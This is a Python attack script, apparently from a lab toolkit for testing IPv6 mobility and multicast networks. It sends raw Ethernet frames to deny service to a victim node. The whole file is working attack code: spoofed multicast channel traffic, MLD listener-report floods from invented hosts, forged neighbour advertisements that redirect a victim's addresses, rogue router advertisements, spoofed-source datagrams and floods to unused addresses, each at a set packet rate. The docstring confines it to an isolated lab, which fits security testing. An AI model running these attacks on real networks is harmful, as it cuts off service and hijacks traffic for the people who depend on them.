"""Plays a node that wants others to lose service: raw packets, from the node that it is started on.

    python3 attack.py NAME SECONDS

For use in a lab of this toolkit alone: it sends by the node's only interface, which leads nowhere
else. It needs nothing but Python.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from ipaddress import IPv6Address
from pathlib import Path

ROUTER = bytes.fromhex("00005e005213")
VICTIM = bytes.fromhex("020000010001")
"""The MAC addresses of every access router, and of the first mobile node of the scenario."""
SERVER, CHANNEL = IPv6Address("2001:db8:5e00:1::2"), IPv6Address("ff3e::c1")
PREFIXES = [IPv6Address(f"2001:db8:1:{number}::") for number in range(4)]
"""Of mobile nodes at mar1."""
ANY_SOURCE, ALL_NODES = IPv6Address("ff0e::bad"), IPv6Address("ff02::1")
MAR = IPv6Address("fe80::5213:1")
ALL_MLD_ROUTERS = IPv6Address("ff02::16")
UDP, ICMPV6 = 17, 58
Frames = Iterator[bytes]


class Node:
    """The node that attacks: its interface, MAC address and global address."""

    def __init__(self) -> None:
        lines = Path("/proc/net/if_inet6").read_text(encoding="ascii").splitlines()
        found = [line.split() for line in lines]
        self.interface, address = next(
            (name, address)
            for address, _, _, scope, _, name in found
            if scope == "00" and name != "lo"
        )
        self.address = IPv6Address(int(address, 16))
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
            link.bind((self.interface, 0))
            self.mac = link.getsockname()[4]


def of_mac(prefix: IPv6Address, mac: bytes) -> IPv6Address:
    """The address that a host makes of its MAC address (RFC 4291 appendix A)."""
    identifier = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    return prefix + int.from_bytes(identifier, "big")


def frame(mac: bytes, packet: bytes) -> bytes:
    """An Ethernet frame to the access router, or to a multicast address."""
    is_multicast = packet[24] == 0xFF
    to = b"\x33\x33" + packet[36:40] if is_multicast else ROUTER
    return to + mac + b"\x86\xdd" + packet


def ipv6(
    source: IPv6Address, to: IPv6Address, protocol: int, payload: bytes, hops: int = 64
) -> bytes:
    """An IPv6 packet."""
    head = struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops)
    return head + source.packed + to.packed + payload


def checked(source: IPv6Address, to: IPv6Address, protocol: int, payload: bytes, at: int) -> bytes:
    """The payload with its checksum (RFC 8200 section 8.1) at an offset."""
    data = source.packed + to.packed + struct.pack("!II", len(payload), protocol) + payload
    words = struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2])
    total = sum(words) + (data[-1] << 8 if len(data) % 2 else 0)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return payload[:at] + struct.pack("!H", ~total & 0xFFFF) + payload[at + 2 :]


def datagram(source: IPv6Address, to: IPv6Address) -> bytes:
    """A UDP datagram of 20 octets of payload."""
    payload = struct.pack("!HHHH", 5001, 5001, 28, 0) + os.urandom(20)
    return ipv6(source, to, UDP, checked(source, to, UDP, payload, 6))


def icmp(source: IPv6Address, to: IPv6Address, body: bytes, hops: int = 255) -> bytes:
    """An ICMPv6 message."""
    return ipv6(source, to, ICMPV6, checked(source, to, ICMPV6, body, 2), hops)


def report(source: IPv6Address, group: IPv6Address) -> bytes:
    """An MLDv2 report of a listener to any source, with Router Alert (RFC 3810 section 5.2)."""
    body = struct.pack("!BxHHH", 143, 0, 0, 1) + struct.pack("!BBH", 4, 0, 0) + group.packed
    options = bytes([ICMPV6, 0, 5, 2, 0, 0, 1, 0])
    return ipv6(
        source, ALL_MLD_ROUTERS, 0, options + checked(source, ALL_MLD_ROUTERS, ICMPV6, body, 2), 1
    )


def forged_channel(node: Node) -> Frames:
    """The victims' channel, in the name of its source."""
    while True:
        yield frame(node.mac, datagram(SERVER, CHANNEL))


def many_sources(node: Node) -> Frames:
    """A group from ever new addresses of one's own, and somebody who listens to all of them."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    yield frame(node.mac, report(link_local, ANY_SOURCE))
    prefix = int(node.address) >> 64 << 64
    for number in itertools.count(0x10000):
        yield frame(node.mac, datagram(IPv6Address(prefix + number), ANY_SOURCE))


def neighbour_advertisements(node: Node) -> Frames:
    """The victim's addresses are where nobody is (flags S and O)."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    for prefix in itertools.cycle(PREFIXES):
        target = of_mac(prefix, VICTIM)
        body = struct.pack("!BxHI", 136, 0, 0x60000000) + target.packed
        body += bytes([2, 1]) + bytes.fromhex("02deadbeef00")
        yield frame(node.mac, icmp(link_local, MAR, body))


def router_advertisements(node: Node) -> Frames:
    """This node is the router, and the old one has gone."""
    link_local = of_mac(IPv6Address("fe80::"), node.mac)
    body = struct.pack("!BxHBBHII", 134, 0, 64, 0, 1800, 0, 0)
    while True:
        yield frame(node.mac, icmp(link_local, ALL_NODES, body))


def invented_hosts(node: Node) -> Frames:
    """70 hosts that listen to 64 groups each."""
    for number in itertools.count():
        mac = b"\x02\xba\xd0\x00\x00" + bytes([number % 70])
        group = IPv6Address("ff0e::bad:0") + number // 70 % 64
        yield frame(mac, report(of_mac(IPv6Address("fe80::"), mac), group))


def forged_sources(node: Node) -> Frames:
    """Datagrams in the victim's name, from its MAC address."""
    for prefix in itertools.cycle(PREFIXES):
        yield frame(VICTIM, datagram(of_mac(prefix, VICTIM), SERVER))


def unused_addresses(node: Node) -> Frames:
    """From the core: to ever new addresses of the mobile nodes' prefixes."""
    router = neighbour_of(node)
    for number in itertools.count(0x10000):
        to = PREFIXES[number % len(PREFIXES)] + number
        yield router + node.mac + b"\x86\xdd" + datagram(node.address, to)


def neighbour_of(node: Node) -> bytes:
    """The MAC address of the other end of a host's LAN, which is the only one there."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind((node.interface, 3))
        while True:
            seen = link.recv(2048)[6:12]
            if seen != node.mac:
                return seen


ATTACKS: dict[str, tuple[Callable[[Node], Frames], int]] = {
    "forged-channel": (forged_channel, 10),
    "many-sources": (many_sources, 320),
    "neighbour-advertisements": (neighbour_advertisements, 8),
    "router-advertisements": (router_advertisements, 10),
    "invented-hosts": (invented_hosts, 200),
    "forged-sources": (forged_sources, 1000),
    "unused-addresses": (unused_addresses, 3000),
}
"""What is sent, and how many a second."""


def main() -> None:
    """Send until the time is over."""
    name, seconds = sys.argv[1], float(sys.argv[2])
    make, rate = ATTACKS[name]
    node = Node()
    frames, sent = make(node), 0
    print(f"{name}: {rate} packets a second", flush=True)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((node.interface, 0))
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            for _ in range(int(passed * rate) - sent):
                link.send(next(frames))
                sent += 1
            time.sleep(0.002)
    print(f"{name}: {sent} packets")


if __name__ == "__main__":
    main()
